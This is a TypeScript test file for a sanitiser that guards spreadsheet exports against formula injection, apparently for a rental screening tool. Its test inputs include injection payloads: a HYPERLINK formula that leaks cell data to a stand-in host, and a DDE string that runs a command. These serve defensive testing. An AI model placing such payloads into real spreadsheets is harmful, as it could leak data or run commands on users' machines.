import fc from 'fast-check';

import {
	spreadsheetSafe,
	spreadsheetSafeIdentifier,
} from '../../../nodes/RentalScreening/results/spreadsheetSafe.ts';

describe('text for a spreadsheet', () => {
	it.each([
		'=1+1',
		'=HYPERLINK("http://evil.example?"&A1,"Click")',
		'+1+1',
		'+cmd|" /C calc"!A0',
		'-1-1',
		'-',
		'@SUM(A1)',
		'\t=1+1',
		'\tplain',
		'\rplain',
		'\nplain',
		' =1+1',
		'\u00A0=1+1',
		'\u200B=1+1',
		'\uFEFF=1+1',
		'\u0000=1+1',
		'＝1+1',
		'＋1+1',
		'－1+1',
		'＠SUM(A1)',
		'+1-416-555-0100',
		'+1 416 555 0100',
		'-12.5+1',
		'+14165550100=1',
		'-12.5\n=1',
	])('gets an apostrophe in front: %j', (text) => {
		expect(spreadsheetSafe(text)).toBe(`'${text}`);
	});

	it.each(['', 'Jane', '2026-03-01', '12 Maple Street', 'a=b', 'jane@example.com', '(+1)', "'=1"])(
		'stays as it is where nothing takes it for a formula: %j',
		(text) => {
			expect(spreadsheetSafe(text)).toBe(text);
		},
	);

	it.each(['+14165550100', '-12.5', '-3', '+0.25'])('stays a phone or a number: %s', (text) => {
		expect(spreadsheetSafe(text)).toBe(text);
	});

	it('never begins like a formula and never loses a character', () => {
		fc.assert(
			fc.property(
				fc.string({ unit: 'binary' }),
				fc.constantFrom('', '=', '+', '-', '@', '\t', '\r'),
				(rest, start) => {
					const text = start + rest;
					const safe = spreadsheetSafe(text);
					expect([text, `'${text}`]).toContain(safe);
					if (/^[=+\-@\t\r]/.test(safe)) expect(Number.isFinite(Number(safe))).toBe(true);
				},
			),
		);
	});
});

describe('an identifier for a spreadsheet', () => {
	it.each(['-NxYz_0123', 'usr-0b6d2c1e', '0b6d2c1e-52a7-4f0e-9d4b-6a1f5f0f7c21'])(
		'stays as it is, because later steps send it back: %s',
		(identifier) => {
			expect(spreadsheetSafeIdentifier(identifier)).toBe(identifier);
		},
	);

	it.each(['=1+1', '-1+A1', '@x', '-HYPERLINK("x")'])(
		'gets an apostrophe where it is no plain identifier: %s',
		(identifier) => {
			expect(spreadsheetSafeIdentifier(identifier)).toBe(`'${identifier}`);
		},
	);
});
